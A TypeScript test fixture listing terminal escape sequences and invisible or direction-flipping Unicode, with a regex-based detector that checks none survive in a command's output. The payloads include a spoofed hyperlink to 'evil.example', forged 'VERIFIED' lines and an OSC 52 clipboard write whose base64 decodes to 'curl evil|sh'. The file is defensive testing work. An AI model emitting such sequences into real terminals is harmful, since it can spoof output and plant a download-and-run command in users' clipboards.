// Text that tries to act on a terminal or to hide from a reader, and what of it may never come out of the command. Written from
// the Unicode charts and terminal manuals, not from the code that escapes: an oracle of its own.

const code = (...points: readonly number[]): string => String.fromCodePoint(...points)

export const PAYLOADS: readonly string[] = [
  '\u001b[2J', // clear the screen
  '\u001b[1;1H', // go home
  '\u001b[1A\u001b[2K', // overwrite the line before
  '\u001b[31mred\u001b[0m',
  '\u001b[8mhidden\u001b[28m',
  '\u001b]0;title\u0007',
  '\u001b]0;title\u001b\\',
  '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  '\u001b]52;c;Y3VybCBldmlsfHNo\u0007', // the clipboard
  '\u001b]1337;File=:AAAA\u0007',
  '\u001bP$q"p\u001b\\', // DCS
  '\u001b_G\u001b\\', // APC
  '\u001b^pm\u001b\\', // PM
  '\u001bc', // reset
  '\u001b[?1049h', // alternate screen
  '\u001b[6n', // answer with the cursor's place
  '\u009b31m', // CSI as one C1 character
  '\u009d0;title\u009c', // OSC and ST as C1
  '\u0090q\u009c', // DCS as C1
  '\u0085next line',
  '\rover',
  '\r\nVERIFIED forged',
  '\nVERIFIED forged',
  '\ttab',
  '\u000bvertical\u000cform feed',
  '\u0007bell',
  'abc\b\b\bxyz',
  '\u007f',
  '\u0000nul',
  '\u000e\u000f', // shift in and out
  '\u202eevil\u202c',
  '\u202aa\u202bb\u202dc',
  '\u2066a\u2067b\u2068c\u2069',
  '\u200e\u200f\u061c',
  'zero\u200bwidth',
  'join\u200c\u200der',
  'word\u2060joiner',
  '\ufeffbom',
  'soft\u00adhyphen',
  'line\u2028separator\u2029',
  code(0xe0001, 0xe0049, 0xe0067, 0xe006e, 0xe007f), // tags
  `vs\ufe0f${code(0xe0100, 0xe01ef)}`,
  '\u180e\u034f\u115f\u3164\uffa0',
  '\u2061\u2064\u206a\u206f',
  '\ufff9a\ufffab\ufffb',
  code(0x1d173, 0x1bca0),
]

/** Whatever none of the payloads may leave in text; line breaks of the command's own are looked at apart. */
const FORBIDDEN = new RegExp(
  [
    '[\\u0000-\\u0009\\u000b-\\u001f\\u007f-\\u009f\\u00ad\\u034f\\u061c\\u115f\\u1160\\u180b-\\u180f',
    '\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u206f\\u3164\\ufe00-\\ufe0f\\ufeff\\uffa0\\ufff9-\\ufffb',
    '\\u{1bca0}-\\u{1bca3}\\u{1d173}-\\u{1d17a}\\u{e0000}-\\u{e0fff}]',
  ].join(''),
  'u',
)

/** The first character that may not be there, as `U+…` and the text around it. */
export function findUnsafe(text: string): string | undefined {
  const index = text.search(FORBIDDEN)
  if (index === -1) return undefined
  const point = text.codePointAt(index)?.toString(16)
  return `U+${point} in ${JSON.stringify(text.slice(Math.max(0, index - 30), index + 30))}`
}
